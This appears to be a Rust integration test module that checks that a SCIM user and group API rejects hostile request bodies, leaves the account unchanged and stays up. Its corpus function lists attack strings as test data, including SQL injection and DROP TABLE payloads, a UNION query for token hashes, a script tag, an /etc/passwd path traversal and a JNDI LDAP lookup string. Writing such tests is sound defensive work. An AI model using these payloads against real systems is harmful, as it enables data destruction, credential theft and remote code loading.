//! Hostile input to the SCIM surface: the right refusal, nothing changed, the server alive.

mod bodies;
mod filters;
mod limits;
mod names;

use axum::http::StatusCode;
use serde_json::{Value, json};

use crate::world::TestApp;
use crate::world::client::Client;

/// An account with two users and a group, and what it looks like before the attack.
struct Target {
    test: TestApp,
    scim: Client,
    ann: String,
    group: String,
    before: Vec<Value>,
}

impl Target {
    async fn new() -> Self {
        let test = TestApp::new().await;
        let scim = test.scim("acme").await;
        let ann = scim.user("ann").await;
        let bob = scim.user("bob").await;
        let group = scim.group("Staff", &[ann.clone(), bob]).await;
        let before = look(&scim).await;
        Self { test, scim, ann, group, before }
    }

    /// Totals, resources and versions are what they were, and the server still writes.
    async fn is_unharmed(&self) {
        assert_eq!(look(&self.scim).await, self.before, "the attack changed something");
        let id = self.scim.user("still alive").await;
        self.scim.delete(&format!("/Users/{id}")).await.expect(StatusCode::NO_CONTENT);
    }

    /// The paths that take a body, with their methods.
    fn doors(&self) -> Vec<(axum::http::Method, String)> {
        use axum::http::Method;
        let (user, group) = (format!("/Users/{}", self.ann), format!("/Groups/{}", self.group));
        vec![
            (Method::POST, "/Users".to_owned()),
            (Method::PUT, user.clone()),
            (Method::PATCH, user),
            (Method::POST, "/Groups".to_owned()),
            (Method::PUT, group.clone()),
            (Method::PATCH, group),
            (Method::POST, "/.search".to_owned()),
            (Method::POST, "/Users/.search".to_owned()),
            (Method::POST, "/Groups/.search".to_owned()),
        ]
    }
}

/// All that a client can see of the account.
async fn look(scim: &Client) -> Vec<Value> {
    vec![scim.get("/Users").await.body, scim.get("/Groups").await.body]
}

/// Texts that mean something to a database, a shell, a browser or a careless parser.
fn corpus() -> Vec<String> {
    let plain = [
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "\"; DROP TABLE users; --",
        "x' UNION SELECT secret_hash FROM tokens --",
        "1; SELECT pg_sleep(10)",
        "$1",
        "?",
        ":name",
        "%",
        "_",
        "%%%",
        "a_n",
        "\\",
        "\\\\",
        "\\\"",
        "\\u0041",
        "\"",
        "'",
        "`",
        ";",
        "--",
        "/* */",
        "{\"a\":1}",
        "[1]",
        "$.userName",
        "null",
        "true",
        "NaN",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "${jndi:ldap://x.test}",
        "\u{202e}txt",
        "\u{feff}ann",
        "ＡＮＮ",
        "ann\u{301}",
        "İ",
        "ß",
        "ﬀ",
        "😀",
        "\u{fffd}",
        "line\nbreak\r\n\t",
        "\u{1}\u{1f}\u{7f}",
    ];
    plain.iter().map(|text| (*text).to_owned()).collect()
}

/// The text as a JSON string, which is how a filter writes it too.
fn quoted(text: &str) -> String {
    json!(text).to_string()
}
